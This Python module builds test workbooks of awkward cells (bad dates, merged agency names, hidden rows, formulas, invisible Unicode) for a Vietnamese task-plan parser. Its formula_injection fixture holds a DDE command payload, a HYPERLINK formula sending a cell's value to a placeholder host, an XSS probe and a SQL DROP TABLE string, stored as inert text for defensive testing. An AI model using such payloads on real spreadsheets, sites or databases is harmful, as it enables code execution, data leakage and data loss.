"""Workbooks whose cells are the trouble: dates, bodies, repeats, blanks, hidden rows, formulas, odd characters."""

import io
import re
import zipfile
from datetime import date, datetime

from meanings import Sample, frozen, line, task
from openpyxl.styles import Border, Font, Side
from workbooks import HEAD, first_sheet, saved, write


def real_dates_and_serials() -> Sample:
    book, sheet = first_sheet()
    tasks = (
        task("Hoàn thành kiểm kê thiết bị đầu cuối", "Văn phòng UBND tỉnh", "Sở Tài chính", "Bảng kiểm kê", "2026-09-30", "2026-09-30"),
        task("Nghiệm thu mạng truyền số liệu chuyên dùng", "Sở Khoa học và Công nghệ", "Công an tỉnh", "Biên bản nghiệm thu", "2026-08-05", "2026-08-05"),
        task("Giải ngân vốn chuyển đổi số quý III", "Sở Tài chính", "Kho bạc Nhà nước khu vực XIII", "Tỷ lệ giải ngân đạt 60%", "46356", "2026-11-30"),
        task("Báo cáo kết quả 100 ngày", "Sở Khoa học và Công nghệ", "Các sở, ban, ngành", "Báo cáo", "2026-11-30", "2026-11-30"),
        task("Mở lớp bồi dưỡng kỹ năng số", "Trường Chính trị tỉnh", "Sở Nội vụ", "Lớp học được tổ chức", "2026-10-01", "2026-10-01"),
        task("Chốt số liệu hồ sơ tồn đọng", "Trung tâm Phục vụ hành chính công tỉnh", "UBND xã, phường, đặc khu", "Bảng số liệu", "46310", "2026-10-15"),
    )  # fmt: skip
    kept: tuple[tuple[object, str], ...] = (
        (date(2026, 9, 30), "dd/mm/yyyy"),
        (date(2026, 8, 5), "m/d/yyyy"),
        (46356, "General"),
        (datetime(2026, 11, 30, 17, 0), "dd/mm/yyyy hh:mm"),  # noqa: DTZ001 - a cell's date has no zone
        (date(2026, 10, 1), 'dd" tháng "mm" năm "yyyy'),
        ("46310", "@"),
    )
    write(sheet, [HEAD])
    for n, (meant, (value, shown)) in enumerate(zip(tasks, kept, strict=True), 1):
        write(sheet, [line(n, meant, deadline=value)])
        sheet.cell(n + 1, 6).number_format = shown
    return Sample("12-ngay-that-va-so-thu-tu-ngay.xlsx", "real date cells in several formats (one with 17:00), a date serial left as a General number and one left as text", saved(book), tasks)  # fmt: skip


def deadlines_that_cannot_be() -> Sample:
    book, sheet = first_sheet()
    tasks = (
        task("Công bố chỉ số hài lòng của người dân", "Văn phòng UBND tỉnh", "Ủy ban MTTQ Việt Nam tỉnh", "Bảng chỉ số", "31/11/2026"),
        task("Cắt giảm 80 thủ tục hành chính nội bộ", "Sở Tư pháp", "Văn phòng UBND tỉnh", "Quyết định công bố", "Sở Tư pháp"),
        task("Gửi danh mục điểm thiếu điện", "Sở Công Thương", "Công ty Cổ phần Điện lực Khánh Hòa", "Danh mục", "15/6/2026", "2026-06-15"),
        task("Trình phương án thuê hạ tầng đám mây", "Sở Khoa học và Công nghệ", "Sở Tài chính", "Tờ trình", "30/9"),
        task("Mua sắm thiết bị cho trung tâm phục vụ hành chính công", "Các sở, ban, ngành|UBND xã, phường", "Sở Tài chính", "100% trung tâm có thiết bị", "30/11/2026 (mốc giữa kỳ: trước 30/8/2026 trình UBND tỉnh)", "2026-11-30"),
        task("Vận hành nền tảng học trực tuyến mở", "Sở Giáo dục và Đào tạo", "Trường Đại học Khánh Hòa", "Nền tảng vận hành", "Từ ngày 01/8/2026 đến ngày 31/10/2026", "2026-10-31"),
        task("Bổ sung hồ sơ sáng kiến", "Sở Nội vụ", "", "Hồ sơ", "29/02/2027"),
        task("Thẩm định đề án thí điểm giao thông thông minh", "Sở Xây dựng", "Công an tỉnh", "Báo cáo thẩm định", "x"),
    )  # fmt: skip
    write(sheet, [["Kèm theo Kế hoạch số 11-KH/BCĐ ngày 28/7/2026"], HEAD])
    leads = {5: "Các sở, ban, ngành và UBND xã, phường"}
    write(sheet, [line(n, meant, lead=leads.get(n)) for n, meant in enumerate(tasks, 1)])
    return Sample("15-han-sai.xlsx", "impossible days, an agency name as a deadline, a deadline before the plan's own date, a day without a year, two dates in one cell, an 'x'", saved(book), tasks)  # fmt: skip


def several_bodies_in_a_cell() -> Sample:
    book, sheet = first_sheet()
    end, due = "30/11/2026", "2026-11-30"
    tasks = (
        task("Đối soát dữ liệu dân cư với dữ liệu bảo hiểm", "Công an tỉnh|Bảo hiểm xã hội tỉnh", "Sở Y tế|Sở Nội vụ", "Dữ liệu khớp", end, due),
        task("Xây dựng quy chế chia sẻ dữ liệu", "Sở Khoa học và Công nghệ|Sở Tư pháp|Công an tỉnh", "Các sở, ban, ngành", "Quy chế", end, due),
        task("Làm sạch dữ liệu đảng viên", "Ban Tổ chức Tỉnh ủy|Văn phòng Tỉnh ủy", "Các đảng ủy trực thuộc", "Dữ liệu sạch", end, due),
        task("Tuyên truyền dịch vụ công trực tuyến", "Sở Văn hóa, Thể thao và Du lịch|Báo và Phát thanh, Truyền hình Khánh Hòa", "Doanh nghiệp viễn thông, điện lực|UBND xã, phường", "Chuyên mục phát sóng", end, due),
        task("Tiếp nhận hồ sơ không phụ thuộc địa giới", "Các sở, ban, ngành|UBND xã, phường, đặc khu", "Trung tâm Phục vụ hành chính công tỉnh", "100% thủ tục", end, due),
        task("Hướng dẫn kết nối Trung tâm dữ liệu quốc gia", "Bộ Công an", "Công an tỉnh|Sở Khoa học và Công nghệ", "Văn bản hướng dẫn", end, due),
        task("Phối hợp thử nghiệm mạng 5G vùng biển đảo", "Bộ Khoa học và Công nghệ|UBND đặc khu Trường Sa", "Bộ Chỉ huy Quân sự tỉnh", "Báo cáo thử nghiệm", end, due),
        task("Số hóa hồ sơ đất đai", "Sở Nông nghiệp và Môi trường|Sở Tài chính", "UBND phường Nha Trang|UBND phường Phan Rang", "Hồ sơ số", end, due),
        task("Bồi dưỡng giáo viên tin học", "Sở Giáo dục và Đào tạo", "Sở Nội vụ|Sở Dân tộc và Tôn giáo", "Danh sách giáo viên", end, due),
    )  # fmt: skip
    written = (
        ("Công an tỉnh; Bảo hiểm xã hội tỉnh", "Sở Y tế, Sở Nội vụ"),
        ("- Sở Khoa học và Công nghệ\n- Sở Tư pháp\n- Công an tỉnh", "Các sở, ban, ngành"),
        ("Ban Tổ chức Tỉnh ủy\nVăn phòng Tỉnh ủy", "Các đảng ủy trực thuộc"),
        ("Sở Văn hóa, Thể thao và Du lịch; Báo và Phát thanh, Truyền hình Khánh Hòa", "Doanh nghiệp viễn thông, điện lực; UBND xã, phường"),
        ("Các sở, ban, ngành và UBND xã, phường, đặc khu", "Trung tâm Phục vụ hành chính công tỉnh."),
        ("Bộ Công an", "Công an tỉnh và Sở Khoa học và Công nghệ"),
        ("Bộ Khoa học và Công nghệ, UBND đặc khu Trường Sa", "Bộ Chỉ huy Quân sự tỉnh"),
        ("Sở Nông nghiệp và Môi trường, Sở Tài chính", "+ UBND phường Nha Trang;\n+ UBND phường Phan Rang."),
        ("Sở Giáo dục và Đào tạo", "• Sở Nội vụ\n• Sở Dân tộc và Tôn giáo"),
    )  # fmt: skip
    write(sheet, [HEAD])
    for n, (meant, (lead, cooperating)) in enumerate(zip(tasks, written, strict=True), 1):
        cells = line(n, meant, lead=lead)
        cells[3] = cooperating
        write(sheet, [cells])
    return Sample("18-nhieu-co-quan.xlsx", "bodies parted by ; comma, newline, bullets and 'và', some with 'và' or commas in their own names; classes of bodies; ministries", saved(book), tasks)  # fmt: skip


def repeats_and_bare_rows() -> Sample:
    book, sheet = first_sheet()
    inventory = task("Kiểm kê phần mềm đang thuê", "Sở Khoa học và Công nghệ", "Sở Tài chính", "Bảng kiểm kê", "31/8/2026", "2026-08-31")  # fmt: skip
    survey = task("Khảo sát mức độ sử dụng ứng dụng Khánh Hòa số", "Văn phòng UBND tỉnh", "", "Báo cáo khảo sát", "Quý IV/2026", "2026-12-31")  # fmt: skip
    bare = task("Phát động phong trào bình dân học vụ số trong thanh niên")
    sign = task("Ký cam kết thực hiện với từng đơn vị", "Tổ Giúp việc Ban Chỉ đạo", "", "Bản cam kết", "10/8/2026", "2026-08-10")  # fmt: skip
    shelf = task("Trích xuất hồ sơ lưu trữ thời kỳ 1976 - 1989", "Sở Nội vụ", "Trung tâm Lưu trữ lịch sử tỉnh", "Hồ sơ số hóa", "30/11/2026", "2026-11-30")  # fmt: skip
    write(sheet, [
        HEAD, line("1", inventory), [], line("1a (mới)", survey), ["2", bare.title], [], [],
        line("1", inventory), ["3", None, "Sở Tài chính", "Thuế tỉnh Khánh Hòa", None, "30/9/2026"],
        line("NV 4", sign), line("*", shelf), line("5", survey),
    ])  # fmt: skip
    unread = (("3 Sở Tài chính Thuế tỉnh Khánh Hòa 30/9/2026", "lead and deadline are there but the task has no words"),)  # fmt: skip
    tasks = (inventory, survey, bare, inventory, sign, shelf, survey)
    return Sample("20-trung-dong-va-dong-trong.xlsx", "the same row twice (once renumbered), empty rows between, words in the number cell, a row with only a title, a row with no title", saved(book), tasks, unread)  # fmt: skip


def three_thousand_blank_rows() -> Sample:
    book, sheet = first_sheet()
    tasks = (
        task("Đánh giá an toàn thông tin theo cấp độ", "Công an tỉnh", "Đơn vị vận hành hệ thống", "Hồ sơ cấp độ được duyệt", "30/11/2026", "2026-11-30"),
        task("Diễn tập ứng cứu sự cố", "Công an tỉnh", "Sở Khoa học và Công nghệ", "Báo cáo diễn tập", "15/10/2026", "2026-10-15"),
        task("Thay thiết bị tường lửa hết hạn hỗ trợ", "Văn phòng Tỉnh ủy", "Sở Tài chính", "Thiết bị mới hoạt động", "30/9/2026", "2026-09-30"),
    )  # fmt: skip
    write(sheet, [HEAD, *[line(n, meant) for n, meant in enumerate(tasks, 1)]])
    thin = Side(style="thin")
    frame = Border(left=thin, right=thin, top=thin, bottom=thin)
    for row in sheet.iter_rows(min_row=5, max_row=3004, max_col=6):
        for cell in row:
            cell.border = frame
            if cell.row % 7 == 0 and cell.column == 2:
                cell.value = " "
    return Sample("21-ba-nghin-dong-trong.xlsx", "3,000 framed blank rows below the table, some holding a single space", saved(book), tasks)  # fmt: skip


def hidden_rows_and_columns() -> Sample:
    book, sheet = first_sheet()
    tasks = (
        task("Hoàn thành kết nối liên thông phần mềm văn bản khối Đảng", "Văn phòng Tỉnh ủy", "Các đảng ủy trực thuộc", "Trục liên thông", "30/10/2026", "2026-10-30"),
        task("Đo tốc độ mạng tại trụ sở cấp xã", "Sở Khoa học và Công nghệ", "UBND xã, phường", "Kết quả đo", "31/8/2026", "2026-08-31"),
        task("Lập danh sách xã chưa có cán bộ chuyên trách", "Sở Nội vụ", "UBND xã, phường", "Danh sách", "15/9/2026", "2026-09-15"),
    )  # fmt: skip
    write(sheet, [["STT", "Nhiệm vụ", "Cơ quan chủ trì", "Cơ quan phối hợp", "Thời hạn (dự thảo cũ)", "Sản phẩm đầu ra", "Thời hạn", "Lãnh đạo phụ trách"]])  # fmt: skip
    for n, meant in enumerate(tasks, 1):
        cells = line(n, meant)
        write(sheet, [[*cells[:4], "30/6/2026", cells[4], cells[5], "Phó Chủ tịch UBND tỉnh"]])
        if n == 1:
            write(sheet, [["1", "Mua phần mềm riêng cho từng đảng ủy", "Văn phòng Tỉnh ủy", "", "30/6/2026", "Phần mềm", "30/9/2026", ""]])  # fmt: skip
    sheet.row_dimensions[3].hidden = True
    for letter in ("E", "H"):
        sheet.column_dimensions[letter].hidden = True
    why = "the row is hidden in the workbook: it is neither taken silently nor lost silently"
    unread = (("1 Mua phần mềm riêng cho từng đảng ủy Văn phòng Tỉnh ủy 30/6/2026 Phần mềm 30/9/2026", why),)
    return Sample("22-dong-cot-an.xlsx", "a hidden row with a dropped task and a hidden column with old deadlines before the visible one", saved(book), tasks, unread)  # fmt: skip


def with_results(archive: bytes, results: dict[str, tuple[str, str]]) -> bytes:
    """Formulas with the values Excel keeps beside them, which openpyxl does not write."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            body = old.read(name).decode() if name == "xl/worksheets/sheet1.xml" else old.read(name)
            if isinstance(body, str):
                for cell, (kind, value) in results.items():
                    found = re.compile(rf'<c r="{cell}"([^>]*)>(<f>[^<]*</f>)<v\s*(?:/>|></v>)')
                    kept = rf'<c r="{cell}"\1 t="{kind}">\2<v>{value}</v>'
                    body, count = found.subn(kept, body)
                    if count != 1:
                        raise ValueError(f"{cell} holds no formula")
            new.writestr(name, body)
    return frozen(out.getvalue())


def formulas() -> Sample:
    book, sheet = first_sheet()
    tasks = (
        task("Lập hồ sơ đề xuất cấp độ an toàn", "Công an tỉnh", "Sở Khoa học và Công nghệ", "Hồ sơ", "2026-08-31", "2026-08-31"),
        task("Thẩm định hồ sơ đề xuất cấp độ", "Công an tỉnh", "Văn phòng Tỉnh ủy", "Văn bản thẩm định", "2026-09-30", "2026-09-30"),
        task("Phê duyệt cấp độ cho Cổng thông tin điện tử tỉnh", "UBND tỉnh", "Công an tỉnh", "Quyết định", "30/10/2026", "2026-10-30"),
        task("Công khai kết quả trên bảng theo dõi", "Sở Khoa học và Công nghệ", "Công an tỉnh", "Bảng theo dõi", "#VALUE!"),
        task("Tổng kết đợt cao điểm", "Công an tỉnh", "Sở Khoa học và Công nghệ", "Báo cáo tổng kết", ""),
    )  # fmt: skip
    ends = ("=DATE(2026,8,31)", "=F2+30", '=TEXT(DATE(2026,10,30),"dd/mm/yyyy")', '="a"+1', "=F3+60")
    write(sheet, [HEAD])
    for n, meant in enumerate(tasks, 1):
        write(sheet, [line(1 if n == 1 else f"=A{n}+1", meant, deadline=ends[n - 1])])
    write(sheet, [["=A6+1", "=B99&Sheet9!A1", "Sở Tài chính", "", "Dự toán", "30/9/2026"]])
    for row in (2, 3, 6):
        sheet.cell(row, 6).number_format = "dd/mm/yyyy"
    kept = {f"A{row}": ("n", str(row - 1)) for row in range(3, 8)} | {
        "F2": ("n", "46265"), "F3": ("n", "46295"), "F4": ("str", "30/10/2026"), "F5": ("e", "#VALUE!"),
        "B7": ("e", "#REF!"),
    }  # fmt: skip
    unread = (("6 #REF! Sở Tài chính Dự toán 30/9/2026", "the title is a formula error"),)
    return Sample("23-cong-thuc.xlsx", "numbers and deadlines are formulas with kept results; one deadline is an error, one was never calculated, one title is an error", with_results(saved(book), kept), tasks, unread)  # fmt: skip


def odd_characters() -> Sample:
    book, sheet = first_sheet(" Phụ\u00a0lục ")
    tasks = (
        task("Xây dựng bản đồ số về du lịch biển đảo", "Sở Văn hóa, Thể thao và Du lịch", "UBND phường Bắc Nha Trang", "Bản đồ số", "30/11/2026", "2026-11-30"),
        task("Đưa 100% hồ sơ công việc lên môi trường điện tử (trừ hồ sơ mật)", "Các cơ quan thuộc 04 khối|UBND xã, phường", "Văn phòng Tỉnh ủy", "Tỷ lệ hồ sơ điện tử", "Quý IV/2026", "2026-12-31"),
        task("Thí điểm trợ lý ảo tại Trung tâm Phục vụ hành chính công tỉnh", "Văn phòng UBND tỉnh", "Sở Khoa học và Công nghệ", "Trợ lý ảo có người dùng", "15/9/2026", "2026-09-15"),
    )  # fmt: skip
    write(sheet, [
        ["S\u200bTT", "Nhiệm\u00a0vụ", "Cơ quan\nchủ trì", " Cơ quan phối  hợp\t", "\ufeffSản phẩm đầu ra", "Thời\u202fhạn"],
        ["1", "Xây dựng bản đồ số\nvề du lịch\u00a0biển đảo ", "Sở Văn hóa, Thể thao\nvà Du lịch", "\tUBND phường Bắc Nha Trang", "Bản\u00a0đồ số", "30/11/\u200b2026"],
        ["2", "\u200bĐưa 100% hồ sơ công việc  lên môi trường điện tử\n\n(trừ hồ sơ mật)", "Các cơ quan thuộc 04 khối\u00a0và UBND xã, phường", "Văn phòng\u00a0Tỉnh\u00ad ủy", "Tỷ lệ hồ sơ điện tử", "Quý\u00a0IV/2026"],
        ["\u00a03\u00a0", "Thí điểm\ttrợ lý ảo tại Trung tâm\u2028Phục vụ hành chính công tỉnh", "Văn phòng UBND tỉnh\u200b", "Sở Khoa học\u00a0và\u00a0Công nghệ", "Trợ lý ảo có người dùng", "15/9/2026\u00a0"],
    ])  # fmt: skip
    return Sample("24-ky-tu-la.xlsx", "line breaks, tabs, no-break, narrow and zero-width spaces, a soft hyphen and a line separator in headers and cells", saved(book), tasks)  # fmt: skip


def formula_injection() -> Sample:
    book, sheet = first_sheet()
    lead, end, due = "Sở Khoa học và Công nghệ", "30/9/2026", "2026-09-30"
    tasks = (
        task("=cmd|' /C calc'!A0", lead, "", "Báo cáo", end, due),
        task('=HYPERLINK("https://vidu.invalid/?x="&C2,"Bấm để xem nhiệm vụ")', lead, "", "=1+1", end, due),
        task("+84 258 3822 999: lập đường dây nóng tiếp nhận phản ánh", lead, "", "Đường dây nóng", end, due),
        task("@SUM(1+9)*cmd|' /C calc'!A0", lead, "", "Báo cáo", end, due),
        task("<script>alert(1)</script> Rà soát giao diện cổng dịch vụ công", lead, "", "Báo cáo rà soát", end, due),
        task("Tạo tài khoản ''; DROP TABLE nhiem_vu; -- cho cán bộ mới", lead, "", "Tài khoản", end, due),
    )  # fmt: skip
    write(sheet, [HEAD])
    for n, meant in enumerate(tasks, 1):
        write(sheet, [[n, None, lead, None, None, end]])
        for column, text in ((2, meant.title), (5, meant.product)):
            cell = sheet.cell(n + 1, column, text)
            cell.data_type = "s"
            cell.font = Font(name="Times New Roman")
    return Sample("16-van-ban-gia-cong-thuc.xlsx", "titles that look like spreadsheet formulas, markup or SQL: they stay plain text", saved(book), tasks)  # fmt: skip


ALL = (
    real_dates_and_serials,
    deadlines_that_cannot_be,
    several_bodies_in_a_cell,
    repeats_and_bare_rows,
    three_thousand_blank_rows,
    hidden_rows_and_columns,
    formulas,
    odd_characters,
    formula_injection,
)
